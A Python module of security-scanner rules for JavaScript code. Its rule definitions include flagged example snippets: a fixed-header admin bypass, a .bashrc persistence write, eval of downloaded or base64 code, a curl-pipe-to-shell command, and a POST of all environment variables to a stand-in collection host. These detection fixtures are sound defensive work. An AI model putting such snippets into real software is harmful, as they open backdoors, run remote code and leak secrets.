"""JavaScript and TypeScript: cryptography and identity, and code that hides, sends away, or lets in."""

from __future__ import annotations

from shipui.gates.base import Example, Rule
from shipui.model.findings import Severity

TLS_OFF = Rule(
    id="js-tls-verification-off",
    gate="security",
    title="Certificates are not checked",
    why="Without the check anybody on the way can pose as the other side, and read and change everything.",
    fix="Leave verification on; give a certificate authority of your own with the option ca.",
    severity=Severity.HIGH,
    cwe="CWE-295",
    flagged=(
        Example("a.js", "new https.Agent({ rejectUnauthorized: false });\n"),
        Example("b.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n"),
    ),
    unflagged=(Example("a.js", "new https.Agent({ rejectUnauthorized: true });\n"),),
)
WEAK_CRYPTO = Rule(
    id="js-weak-crypto",
    gate="security",
    title="Cryptography that has been broken",
    why="This algorithm or setting has been broken, or is too weak to protect what it is used for here.",
    fix="Use scrypt, argon2 or bcrypt for passwords, SHA-256 or better for signatures, AES-GCM with a fresh random IV, RSA of 2048 bits or more.",
    severity=Severity.MEDIUM,
    cwe="CWE-327",
    flagged=(
        Example(
            "a.js",
            "const crypto = require('crypto');\nconst hash = crypto.createHash('md5').update(password).digest('hex');\n",
        ),
        Example(
            "b.js", "const crypto = require('crypto');\nconst c = crypto.createCipheriv('aes-128-ecb', key, null);\n"
        ),
    ),
    unflagged=(
        Example(
            "a.js",
            "const crypto = require('crypto');\nconst etag = crypto.createHash('md5').update(content).digest('hex');\n",
        ),
    ),
)
WEAK_RANDOM = Rule(
    id="js-weak-random",
    gate="security",
    title="A secret from a predictable source",
    why="Math.random can be predicted, so whoever has seen some of its values can work out this one.",
    fix="Use crypto.randomBytes, crypto.randomUUID or crypto.getRandomValues.",
    severity=Severity.MEDIUM,
    cwe="CWE-338",
    flagged=(Example("a.js", "const resetToken = Math.random().toString(36).slice(2);\n"),),
    unflagged=(Example("a.js", "const delay = Math.random() * 100;\n"),),
)
TOKEN_CHECK = Rule(
    id="js-token-not-checked",
    gate="security",
    title="A token that is not checked",
    why="The token's signature or lifetime is not checked, so anybody can write one.",
    fix="Verify with a named algorithm (not none), and let expired tokens be refused.",
    severity=Severity.HIGH,
    cwe="CWE-347",
    flagged=(
        Example("a.js", "const jwt = require('jsonwebtoken');\njwt.verify(token, key, { algorithms: ['none'] });\n"),
    ),
    unflagged=(
        Example("a.js", "const jwt = require('jsonwebtoken');\njwt.verify(token, key, { algorithms: ['RS256'] });\n"),
    ),
)
HARDCODED_KEY = Rule(
    id="js-hardcoded-key",
    gate="security",
    title="A key that stands in the code",
    why="Whoever can read the code can sign or decrypt with this key.",
    fix="Read it from the environment or a secret store, and replace this one.",
    severity=Severity.HIGH,
    cwe="CWE-798",
    flagged=(
        Example("a.js", "const jwt = require('jsonwebtoken');\nconst t = jwt.sign({ id }, 'shhhh-very-secret');\n"),
    ),
    unflagged=(
        Example("a.js", "const jwt = require('jsonwebtoken');\nconst t = jwt.sign({ id }, process.env.JWT_SECRET);\n"),
    ),
)
BYPASS = Rule(
    id="js-backdoor-bypass",
    gate="security",
    title="A fixed value that lets in",
    why="Whoever knows this fixed value gets in, past the real check.",
    fix="Take it out. If it is for tests, let a test account do it.",
    severity=Severity.HIGH,
    cwe="CWE-798",
    flagged=(
        Example(
            "a.js",
            "app.use((req, res, next) => { if (req.headers['x-debug'] === 'letmein-9') { req.user = { role: 'admin' }; return next() } });\n",
        ),
    ),
    unflagged=(
        Example(
            "a.js",
            "app.use((req, res, next) => { if (req.headers['content-type'] === 'application/json') return next() });\n",
        ),
    ),
)
PERSISTENCE = Rule(
    id="js-backdoor-persistence",
    gate="security",
    title="A change of who gets in, or of what runs at every start",
    why="A file is written that decides who may log in, or what runs when the machine or a shell starts. It stays after this program has ended.",
    fix="Take it out. Machines are configured by the tool that is meant for it, where others review it.",
    severity=Severity.HIGH,
    cwe="CWE-506",
    flagged=(
        Example("a.js", "require('fs').appendFileSync(os.homedir() + '/.bashrc', 'node /tmp/a.js &');\n"),
        Example("b.js", "fs.writeFileSync('/etc/cron.d/update', line);\n"),
    ),
    unflagged=(Example("a.js", "require('fs').appendFileSync(os.homedir() + '/.acme/log', text);\n"),),
)
DECODE_AND_RUN = Rule(
    id="js-backdoor-decoded-code",
    gate="security",
    title="Decoded or downloaded text is run",
    why="Text is decoded or downloaded and then run. Code that does so hides what it does.",
    fix="Put the code itself into the repository, where it can be read.",
    severity=Severity.CRITICAL,
    cwe="CWE-506",
    flagged=(
        Example("a.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"),
        Example("b.js", "fetch('https://example.com/x.js').then((r) => r.text()).then((code) => eval(code));\n"),
    ),
    unflagged=(
        Example("a.js", "const text = Buffer.from(value, 'base64').toString(); console.log(JSON.parse(text));\n"),
    ),
)
DOWNLOAD_AND_RUN = Rule(
    id="js-backdoor-downloaded-command",
    gate="security",
    title="A command that downloads and runs, or opens a shell to outside",
    why="This starts whatever another machine sends, or gives it a shell.",
    fix="Take it out. Install what is needed from a registry, by version and checksum.",
    severity=Severity.CRITICAL,
    cwe="CWE-506",
    flagged=(Example("a.js", "require('child_process').exec('curl -s https://example.com/i.sh | sh');\n"),),
    unflagged=(Example("a.js", "require('child_process').execSync('git rev-parse HEAD');\n"),),
)
OBFUSCATION = Rule(
    id="js-obfuscation",
    gate="security",
    title="Code that hides what it does",
    why="Names or text are written so that a reader cannot see what happens here.",
    fix="Write it in the open. Generated bundles belong into the build, not into the repository.",
    severity=Severity.HIGH,
    cwe="CWE-506",
    flagged=(
        Example("a.js", "const m = require('child_' + 'process');\n"),
        Example(
            "b.js",
            "const _0x3f2a = ['\\x6c\\x6f\\x67']; (function (_0x1b2c, _0x4d5e) { _0x1b2c[_0x3f2a[0]](_0x4d5e) })(console, _0x3f2a);\n",
        ),
    ),
    unflagged=(Example("a.js", "const m = require('child_process'); const s = 'child_' + kind;\n"),),
)
EXFILTRATION = Rule(
    id="js-exfiltration",
    gate="security",
    title="Credentials or private data leave the program",
    why="Credentials, cookies or the whole environment are sent to another machine.",
    fix="Take it out, unless that machine is meant to have them; then send only what it needs, in a header.",
    severity=Severity.CRITICAL,
    cwe="CWE-200",
    flagged=(
        Example(
            "a.js", "fetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(process.env) });\n"
        ),
    ),
    unflagged=(
        Example(
            "a.js",
            "fetch('https://api.example.com', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });\n",
        ),
    ),
)
NETWORK = Rule(
    id="js-unexpected-network",
    gate="security",
    title="A call to an address that a program has no reason to call",
    why="The address is a bare IP address, or a place where anybody can leave or collect data.",
    fix="Call services by their names, from the settings. Take it out if nobody knows what it is for.",
    severity=Severity.HIGH,
    cwe="CWE-912",
    flagged=(Example("a.js", "fetch('http://203.0.113.7:8080/c');\n"),),
    unflagged=(Example("a.js", "fetch('http://127.0.0.1:8080/c'); fetch('https://api.example.com/c');\n"),),
)

RULES = (
    TLS_OFF,
    WEAK_CRYPTO,
    WEAK_RANDOM,
    TOKEN_CHECK,
    HARDCODED_KEY,
    BYPASS,
    PERSISTENCE,
    DECODE_AND_RUN,
    DOWNLOAD_AND_RUN,
    OBFUSCATION,
    EXFILTRATION,
    NETWORK,
)
